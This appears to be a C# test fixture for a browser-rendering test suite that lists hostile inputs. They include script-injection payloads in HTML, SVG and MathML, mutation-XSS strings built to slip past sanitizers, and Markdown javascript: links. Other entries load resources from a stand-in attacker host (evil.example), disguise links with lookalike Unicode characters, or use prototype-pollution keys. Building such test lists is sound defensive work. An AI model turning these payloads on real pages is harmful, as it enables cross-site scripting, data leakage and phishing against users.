namespace WriteAssist.BrowserTests;

/// <summary>Texts that try to run a script or to call another host from wherever they are shown. A script that runs sets <c>hurt</c>.</summary>
internal static class HostileTexts
{
    private const string Run = "hurt=1";

    /// <summary>All of them.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        // HTML
        $"<script>{Run}</script>", $"<ScRiPt/x>{Run}</sCrIpT >", $"<script src=//evil.example/a.js></script>", $"<img src=x onerror={Run}>", $"<img src=//evil.example/i.png srcset=\"//evil.example/j.png 2x\">",
        $"<body onload={Run}>", $"<details open ontoggle={Run}>x</details>", $"<input autofocus onfocus={Run}>", $"<video src=//evil.example/v onerror={Run}><source onerror={Run}></video>", $"<audio src=x onerror={Run}>",
        $"<iframe src=\"javascript:parent.{Run}\"></iframe>", $"<iframe srcdoc=\"<script>parent.{Run}</script>\"></iframe>", $"<object data=\"javascript:{Run}\"></object>", "<embed src=//evil.example/e>",
        "<link rel=stylesheet href=//evil.example/s.css>", "<style>@import url(//evil.example/t.css);*{background:url(//evil.example/b.png)}</style>", "<p style=\"background:url(//evil.example/p.png)\">x</p>",
        "<base href=//evil.example/>", "<meta http-equiv=refresh content=\"0;url=//evil.example/\">", "<form action=//evil.example/><button>go</button></form>", $"<a href=\"javascript:{Run}\">a</a>",
        $"<a href=\"java&#x0A;script:{Run}\">b</a>", $"<a href=\" &#1;javascript:{Run}\">c</a>", $"<p onclick={Run} onmouseover={Run} tabindex=0 onfocus={Run} autofocus>p</p>", $"<marquee onstart={Run}>m</marquee>",
        $"<template><script>{Run}</script></template>", $"<portal src=//evil.example/>", $"<img/src=`x`onerror={Run}>", $"<<script>{Run}//<</script>", $"\"><img src=x onerror={Run}>", $"'-{Run}-'", $"</textarea><img src=x onerror={Run}>",
        $"</title><img src=x onerror={Run}>", $"--><img src=x onerror={Run}>", $"]]><img src=x onerror={Run}>", $"<div is=x-y slot=z><slot onslotchange={Run}></div>", "<input type=image src=//evil.example/x.png>",
        // SVG and MathML
        $"<svg onload={Run}>", $"<svg><script>{Run}</script></svg>", $"<svg><a xlink:href=\"javascript:{Run}\"><text y=20>x</text></a></svg>", $"<svg><animate onbegin={Run} attributeName=x dur=1s>", "<svg><image href=//evil.example/x.svg></svg>",
        "<svg><use href=//evil.example/u.svg#a></svg>", $"<svg><foreignObject><img src=x onerror={Run}></foreignObject></svg>", $"<math><mi xlink:href=\"javascript:{Run}\">x</mi></math>", $"<math><maction actiontype=statusline xlink:href=\"javascript:{Run}\">x",
        // what changes its meaning when it is parsed twice
        $"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={Run}&gt;\">", $"<svg></p><style><a id=\"</style><img src=1 onerror={Run}>\">", $"<noscript><p title=\"</noscript><img src=x onerror={Run}>\">",
        $"<form><math><mtext></form><form><mglyph><style></math><img src onerror={Run}>", $"<svg><style>&lt;img src=x onerror={Run}&gt;</style></svg>", $"<xmp><p title=\"</xmp><img src=x onerror={Run}>\">", $"<select><template><img src=x onerror={Run}></template></select>",
        $"<table><td><svg><desc><td></desc><style><a title=\"</style><img src onerror={Run}>\">", $"&lt;img src=x onerror={Run}&gt;", $"&amp;lt;script&amp;gt;{Run}&amp;lt;/script&amp;gt;", $"<textarea><img title=\"</textarea><img src=x onerror={Run}>\"></textarea>",
        // Markdown
        $"[a](javascript:{Run})", $"[a](JaVaScRiPt:{Run})", $"[a](<java\tscript:{Run}>)", $"[a](javascript&colon;{Run})", $"[a][r]\n\n[r]: javascript:{Run}", $"<javascript:{Run}>", $"[a](data:text/html,<script>{Run}</script>)", $"[a](vbscript:{Run})",
        $"[a](data:text/html;base64,PHNjcmlwdD5odXJ0PTE8L3NjcmlwdD4=)", "![i](//evil.example/m.png)", "![i](https://evil.example/m.png \"t\")", "![i][p]\n\n[p]: https://evil.example/r.png", $"![x\" onerror=\"{Run}](https://evil.example/q.png)",
        $"[x](https://example.org/\"onmouseover=\"{Run})", $"[x](https://example.org 'a\" onfocus=\"{Run}')", $"`<img src=x onerror={Run}>`", $"```html onload={Run}\n<script>{Run}</script>\n```", $"~~~\"><script>{Run}</script>\nx\n~~~", $"| <img src=x onerror={Run}> |\n| - |\n| <svg onload={Run}> |",
        $"$<img src=x onerror={Run}>$", $"$$\\href{{javascript:{Run}}}{{x}}$$", $"- [ ] <input onfocus={Run} autofocus>", $"# <img src=x onerror={Run}>", "https://evil.example/auto", "www.evil.example", "<https://evil.example/angle>", "mailto:a@evil.example",
        // what deceives people, and programs that count characters
        "\u202e<\u202cgnp.exe\u202c", "[https://ex\u0430mple.org](https://evil.example)", "https://\u0435xample.org/", "a\u200b\ufeff\u2066\u2067\u2068\u2069z", "\ud800", "\u0000<b>\u0000", "\u2028hurt=1\u2029", "__proto__", "constructor",
    ];
}
